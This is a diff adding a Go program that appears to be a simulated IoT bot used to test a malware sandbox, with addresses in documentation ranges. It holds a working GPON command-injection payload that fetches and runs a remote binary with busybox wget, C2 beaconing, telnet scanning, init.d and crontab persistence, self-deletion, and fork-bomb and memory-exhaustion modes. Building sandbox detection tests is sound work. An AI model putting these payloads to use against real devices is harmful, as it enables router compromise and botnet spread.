@@ -1,0 +1,139 @@
+// Command bot is a simulated IoT bot for the sandbox tests: no real
+// malware, only the behaviours the sandbox must recognise. The behaviour is
+// chosen at link time with -ldflags "-X main.mode=...". All addresses are
+// documentation or benchmarking prefixes, reachable only as the sandbox's
+// fake Internet.
+package main
+
+import (
+	"fmt"
+	"io"
+	"net"
+	"os"
+	"runtime/debug"
+	"strings"
+	"time"
+)
+
+var (
+	mode     = "bot"
+	hostPort = "" // containment: 127.0.0.1:port of a listener outside the sandbox
+)
+
+func main() {
+	switch mode {
+	case "bot":
+		c2()
+		scan()
+		gpon()
+		watchdog()
+	case "persist-init":
+		persist("/usr/bin/.x", "/etc/init.d/S95x", "#!/bin/sh\n/usr/bin/.x &\n")
+	case "persist-cron":
+		persist("/usr/bin/.y", "/etc/crontabs/root", "* * * * * /usr/bin/.y\n")
+	case "volatile":
+		self, _ := os.ReadFile(os.Args[0])
+		os.WriteFile("/tmp/.v", self, 0o755)
+		os.WriteFile("/var/run/.v.pid", []byte("1\n"), 0o644)
+	case "selfdelete":
+		os.Remove(os.Args[0])
+		time.Sleep(200 * time.Millisecond)
+	case "contain":
+		for _, a := range []string{hostPort, "192.0.2.1:80"} {
+			if c, err := net.DialTimeout("tcp", a, 2*time.Second); err == nil {
+				fmt.Fprintf(c, "KANSOKU-CONTAIN %s\r\n", a)
+				c.Close()
+			}
+		}
+	case "crash":
+		debug.SetTraceback("crash")
+		var p *int
+		*p = 1
+	case "hang":
+		for {
+		}
+	case "forkbomb":
+		forkbomb()
+	case "memhog":
+		var keep [][]byte
+		for {
+			b := make([]byte, 16<<20)
+			for i := range b {
+				b[i] = 1
+			}
+			keep = append(keep, b)
+		}
+	}
+}
+
+func c2() {
+	addrs, err := net.LookupHost("cnc.bot-test.example")
+	if err != nil || len(addrs) == 0 {
+		fmt.Println("lookup:", err)
+		return
+	}
+	for range 3 {
+		c, err := net.DialTimeout("tcp", net.JoinHostPort(addrs[0], "4444"), 2*time.Second)
+		if err != nil {
+			continue
+		}
+		c.Write([]byte{0, 0, 0, 1, 'b', 'o', 't'})
+		c.Close()
+		time.Sleep(50 * time.Millisecond)
+	}
+}
+
+func scan() {
+	for i := 1; i <= 12; i++ {
+		c, err := net.DialTimeout("tcp", fmt.Sprintf("198.51.100.%d:23", i), time.Second)
+		if err == nil {
+			c.Close()
+		}
+	}
+}
+
+func gpon() {
+	body := "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://198.51.100.99/bins/x.mips+-O+/tmp/gaf;sh+/tmp/gaf`&ipv=0"
+	c, err := net.DialTimeout("tcp", "198.51.100.50:8080", 2*time.Second)
+	if err != nil {
+		return
+	}
+	defer c.Close()
+	fmt.Fprintf(c, "POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 198.51.100.50:8080\r\nUser-Agent: Hello, World\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n%s", len(body), body)
+	c.SetReadDeadline(time.Now().Add(2 * time.Second))
+	io.Copy(io.Discard, c)
+}
+
+func watchdog() {
+	for _, p := range []string{"/dev/watchdog", "/dev/misc/watchdog"} {
+		if f, err := os.OpenFile(p, os.O_RDWR, 0); err == nil {
+			f.Close()
+		}
+	}
+}
+
+// persist copies the bot to flash and registers it to start at boot; a copy
+// that already runs from flash only shows it is alive.
+func persist(bin, file, content string) {
+	if os.Args[0] == bin {
+		c, err := net.DialTimeout("tcp", "198.51.100.77:6667", 2*time.Second)
+		if err == nil {
+			c.Write([]byte("NICK restarted\r\n"))
+			c.Close()
+		}
+		return
+	}
+	self, err := os.ReadFile(os.Args[0])
+	if err != nil {
+		fmt.Println("read self:", err)
+		return
+	}
+	if err := os.WriteFile(bin, self, 0o755); err != nil {
+		fmt.Println("write:", err)
+		return
+	}
+	os.MkdirAll(file[:strings.LastIndex(file, "/")], 0o755)
+	if err := os.WriteFile(file, []byte(content), 0o755); err != nil {
+		fmt.Println("write:", err)
+	}
+}
